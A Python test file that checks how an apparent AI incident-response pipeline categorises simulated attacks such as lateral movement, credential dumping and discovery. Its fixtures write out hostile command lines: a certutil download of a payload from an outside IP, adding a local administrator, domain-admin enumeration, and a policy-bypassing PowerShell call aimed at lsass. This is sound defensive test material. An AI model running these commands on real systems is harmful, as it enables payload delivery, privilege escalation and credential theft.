"""The category from evidence (issue 12, causes 1 and 7), on small incidents written for it:
a hop between hosts proven by the investigation decides lateral movement whatever the alert mix;
a management agent's SYSTEM script tagged T1003 is maintenance, neither credential access nor a
malicious verdict alone; enumeration run by an implant is malicious discovery with no
containment, an admin's own enumeration stays benign."""

from __future__ import annotations

from datetime import timedelta

from agents.deps import AgentDeps
from agents.investigation.graph import run_investigation
from agents.models import InvestigationInput, InvestigationReport, TriageResult
from agents.remediation.graph import run_remediation
from agents.triage.graph import run_triage
from agents.verdict_category import ProvenFindings, decide_category
from tests.agents.fakes import T0, FakeEdr, alert, read_tools
from tests.agents.scenarios import triage_input
from tools.actions import SCORED_KINDS
from tools.models import (
    Alert,
    Asset,
    AssetKind,
    Category,
    Criticality,
    Environment,
    Identity,
    IdentityKind,
    Severity,
    Verdict,
)
from tools.results import LogonEvent, ProcessEvent

SYSTEM = "NT AUTHORITY\\SYSTEM"


def estate() -> Environment:
    return Environment(
        assets=[
            Asset(id="ALPHA", hostname="alpha.corp.example", kind=AssetKind.WORKSTATION,
                  criticality=Criticality.LOW, ips=["10.20.0.11"]),
            Asset(id="BRAVO", hostname="bravo.corp.example", kind=AssetKind.SERVER,
                  criticality=Criticality.MEDIUM, ips=["10.20.0.12"]),
            Asset(id="CHARLIE", hostname="charlie.corp.example", kind=AssetKind.SERVER,
                  criticality=Criticality.MEDIUM, ips=["10.20.0.13"]),
            Asset(id="DELTA", hostname="delta.corp.example", kind=AssetKind.WORKSTATION,
                  criticality=Criticality.LOW, ips=["10.20.0.14"]),
        ],
        identities=[Identity(id="corp\\jdoe", kind=IdentityKind.USER),
                    Identity(id="corp\\asmith", kind=IdentityKind.USER)],
        internal_networks=["10.20.0.0/16"],
    )  # fmt: skip


async def respond(
    alerts: list[Alert], edr: FakeEdr
) -> tuple[TriageResult, InvestigationReport, list[str]]:
    deps = AgentDeps(tools=read_tools(edr, estate()))
    triage = await run_triage(deps, triage_input(alerts))
    report = await run_investigation(
        deps, InvestigationInput(incident_id="inc-1", alerts=alerts, triage=triage)
    )
    plan = await run_remediation(deps, triage, report, SCORED_KINDS)
    return (
        triage,
        report,
        sorted(f"{p.action.kind.value}:{p.action.target}" for p in plan.proposals),
    )


# --- cause 1: a proven hop decides lateral movement -----------------------------------------


def remote_service_hop() -> tuple[list[Alert], FakeEdr]:
    """jdoe logs on to BRAVO over the network from ALPHA; a service is installed on BRAVO and its
    binary runs a shell; the alerts speak of persistence and execution only."""
    payload = r"C:\Windows\Temp\svcupd.exe"
    alerts = [
        alert("s1", "New Service Installation", Severity.HIGH, [("T1543.003", "persistence")],
              host="BRAVO", user=SYSTEM, pid=620, name="services.exe",
              cmd=r"C:\Windows\system32\services.exe"),
        alert("s2", "Suspicious Service Binary Started", Severity.HIGH,
              [("T1569.002", "execution")], host="BRAVO", user=SYSTEM, pid=4410,
              name="svcupd.exe", cmd=payload, time=T0 + timedelta(seconds=2)),
        alert("s3", "Local Account Added To Administrators", Severity.MEDIUM,
              [("T1098", "persistence")], host="BRAVO", user=SYSTEM, pid=4420,
              name="net.exe", cmd="net localgroup administrators backup /add",
              time=T0 + timedelta(seconds=4)),
    ]  # fmt: skip
    edr = FakeEdr(
        logon_events=[
            LogonEvent(time=T0 - timedelta(seconds=3), host="BRAVO", logon_type=3,
                       user="CORP\\jdoe", src_ip="10.20.0.11"),
        ],
        processes=[
            ProcessEvent(time=T0 + timedelta(seconds=2), host="BRAVO", pid=4410, image=payload,
                         cmd_line=payload, parent_pid=620,
                         parent_image=r"C:\Windows\System32\services.exe", user=SYSTEM),
            ProcessEvent(time=T0 + timedelta(seconds=3), host="BRAVO", pid=4415,
                         image=r"C:\Windows\System32\cmd.exe", cmd_line="cmd.exe /c whoami",
                         parent_pid=4410, parent_image=payload, user=SYSTEM),
            ProcessEvent(time=T0 + timedelta(seconds=4), host="BRAVO", pid=4420,
                         image=r"C:\Windows\System32\net.exe",
                         cmd_line="net localgroup administrators backup /add",
                         parent_pid=4415, parent_image=r"C:\Windows\System32\cmd.exe",
                         user=SYSTEM),
        ],
    )  # fmt: skip
    return alerts, edr


async def test_a_proven_hop_is_lateral_movement_and_disables_the_account_used() -> None:
    alerts, edr = remote_service_hop()
    triage, report, proposed = await respond(alerts, edr)
    assert report.verdict is Verdict.MALICIOUS
    assert triage.category is not Category.LATERAL_MOVEMENT  # the alert mix: persistence
    assert report.category is Category.LATERAL_MOVEMENT
    assert "ALPHA -> BRAVO" in report.category_reason
    assert {"isolate_host:ALPHA", "isolate_host:BRAVO", "disable_account:corp\\jdoe"} <= set(
        proposed
    )
    # both the proposal and the decision are on record for the analyst
    assert report.findings[0].summary.startswith(f"category {triage.category.value} -> ")


# --- cause 1: a monitoring agent's SYSTEM script tagged T1003 is maintenance ------------------

AGENT_SCRIPT = (
    r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File "
    r"C:\Packages\Plugins\Vendor.Monitoring.Agent\2.4.1\scripts\collect-processes.ps1"
)


def agent_alert() -> Alert:
    """A process-creation rule tagged credential dumping fires on the agent's inventory script;
    the EDR has no record of the short-lived process beyond the alert."""
    return alert("m1", "Potential Credential Dumping Attempt Via PowerShell", Severity.HIGH,
                 [("T1003.001", "credential-access")], host="CHARLIE", user=SYSTEM, pid=5120,
                 name="powershell.exe", cmd=AGENT_SCRIPT + " -Target lsass")  # fmt: skip


def exploitation_alerts() -> list[Alert]:
    return [
        alert("x1", "Shell Spawned By Web Server", Severity.HIGH,
              [("T1190", "initial-access"), ("T1059.003", "execution")], host="CHARLIE",
              user="IIS APPPOOL\\shop", pid=6100, name="cmd.exe",
              cmd="cmd.exe /c whoami & certutil -urlcache -f http://203.0.113.7/a.exe a.exe",
              time=T0 + timedelta(minutes=1)),
    ]  # fmt: skip


def exploitation_edr() -> FakeEdr:
    return FakeEdr(
        processes=[
            ProcessEvent(time=T0 + timedelta(minutes=1), host="CHARLIE", pid=6100,
                         image=r"C:\Windows\System32\cmd.exe",
                         cmd_line="cmd.exe /c whoami & certutil -urlcache -f "
                                  "http://203.0.113.7/a.exe a.exe",
                         parent_pid=3300, parent_image=r"C:\Windows\System32\inetsrv\w3wp.exe",
                         user="IIS APPPOOL\\shop"),
        ]
    )  # fmt: skip


async def test_a_monitoring_agents_t1003_script_does_not_make_an_exploit_credential_access() -> (
    None
):
    triage, report, proposed = await respond([agent_alert(), *exploitation_alerts()],
                                             exploitation_edr())  # fmt: skip
    assert report.verdict is Verdict.MALICIOUS
    assert triage.category is not Category.CREDENTIAL_ACCESS
    assert report.category is not Category.CREDENTIAL_ACCESS
    assert "isolate_host:CHARLIE" in proposed
    assert not [p for p in proposed if p.startswith("disable_account:")]
    assert any("platform maintenance" in r for r in triage.rationale)


async def test_a_monitoring_agents_t1003_script_alone_is_benign() -> None:
    triage, report, proposed = await respond([agent_alert()], FakeEdr())
    assert triage.verdict is Verdict.BENIGN
    assert report.verdict is Verdict.BENIGN
    assert report.category is Category.BENIGN_ACTIVITY
    assert proposed == []


# --- cause 7: discovery by an implant, and by an admin ----------------------------------------


def enumeration(
    parent_image: str, implant_record: ProcessEvent | None
) -> tuple[list[Alert], FakeEdr]:
    """asmith's shell, started by `parent_image`, asks the domain for its admins."""
    cmd = 'net group "Domain Admins" /domain'
    alerts = [
        alert("d1", "Suspicious Group And Account Reconnaissance Activity Using Net.EXE",
              Severity.MEDIUM, [("T1087.002", "discovery"), ("T1069.002", "discovery")],
              host="DELTA", user="corp\\asmith", pid=7220, name="net.exe", cmd=cmd),
    ]  # fmt: skip
    processes = [implant_record] if implant_record is not None else []
    processes += [
        ProcessEvent(time=T0 - timedelta(seconds=5), host="DELTA", pid=7210,
                     image=r"C:\Windows\System32\cmd.exe", cmd_line="cmd.exe",
                     parent_pid=7000, parent_image=parent_image, user="CORP\\asmith"),
        ProcessEvent(time=T0, host="DELTA", pid=7220, image=r"C:\Windows\System32\net.exe",
                     cmd_line=cmd, parent_pid=7210,
                     parent_image=r"C:\Windows\System32\cmd.exe", user="CORP\\asmith"),
    ]  # fmt: skip
    return alerts, FakeEdr(processes=processes)


async def test_an_implants_enumeration_is_malicious_discovery_without_containment() -> None:
    # an implant dropped in the user's temp folder
    implant = r"C:\Users\asmith\AppData\Local\Temp\invoice-viewer.exe"
    record = ProcessEvent(time=T0 - timedelta(seconds=30), host="DELTA", pid=7000, image=implant,
                          cmd_line=implant, parent_pid=900,
                          parent_image=r"C:\Windows\explorer.exe", user="CORP\\asmith")  # fmt: skip
    alerts, edr = enumeration(implant, record)
    triage, report, proposed = await respond(alerts, edr)
    assert (report.verdict, report.category) == (Verdict.MALICIOUS, Category.DISCOVERY)
    assert triage.playbook_id == ""  # a category, never a playbook (the routing file picks)
    assert proposed == []
    # an implant at the root of ProgramData, with its own record
    implant = r"C:\ProgramData\svchelper.exe"
    record = ProcessEvent(time=T0 - timedelta(seconds=30), host="DELTA", pid=7000, image=implant,
                          cmd_line=implant, parent_pid=900,
                          parent_image=r"C:\Windows\explorer.exe", user="CORP\\asmith")  # fmt: skip
    alerts, edr = enumeration(implant, record)
    triage, report, proposed = await respond(alerts, edr)
    assert (report.verdict, report.category, proposed) == (
        Verdict.MALICIOUS,
        Category.DISCOVERY,
        [],
    )


async def test_an_admins_own_enumeration_from_a_normal_shell_stays_benign() -> None:
    explorer = r"C:\Windows\explorer.exe"
    record = ProcessEvent(time=T0 - timedelta(hours=2), host="DELTA", pid=7000, image=explorer,
                          cmd_line=explorer, parent_pid=880,
                          parent_image=r"C:\Windows\System32\userinit.exe",
                          user="CORP\\asmith")  # fmt: skip
    alerts, edr = enumeration(explorer, record)
    triage, report, proposed = await respond(alerts, edr)
    assert (triage.verdict, report.verdict, proposed) == (Verdict.BENIGN, Verdict.BENIGN, [])


# --- the precedence, on proven findings alone -------------------------------------------------


def _triage(category: Category) -> TriageResult:
    return TriageResult(verdict=Verdict.MALICIOUS, confidence=0.9, severity=Severity.HIGH,
                        category=category, playbook_id="hands_on_keyboard")  # fmt: skip


def test_precedence_theft_then_movement_then_artefacts_then_the_prior() -> None:
    mal = Verdict.MALICIOUS
    theft = ProvenFindings(credential_theft=["A:1 runs credential tool"], movements=["A -> B"])
    hop = ProvenFindings(movements=["A -> B as corp\\u"], persistence=["B:svc"])
    artefact = ProvenFindings(persistence=["B:HKLM\\...\\Run\\x"])
    cases = [
        (_triage(Category.PERSISTENCE), theft, Category.CREDENTIAL_ACCESS),
        (_triage(Category.PERSISTENCE), hop, Category.LATERAL_MOVEMENT),
        (_triage(Category.CREDENTIAL_ACCESS), hop, Category.CREDENTIAL_ACCESS),
        (_triage(Category.EXECUTION), artefact, Category.PERSISTENCE),
        (_triage(Category.COMMAND_AND_CONTROL), artefact, Category.COMMAND_AND_CONTROL),
        (_triage(Category.DEFENSE_EVASION), ProvenFindings(), Category.DEFENSE_EVASION),
    ]
    for triage, proven, expected in cases:
        decision = decide_category(triage, mal, proven)
        assert (decision.proposed, decision.decided) == (triage.category, expected)
        assert decision.reason
    benign = decide_category(_triage(Category.CREDENTIAL_ACCESS), Verdict.BENIGN, theft)
    assert benign.decided is Category.BENIGN_ACTIVITY
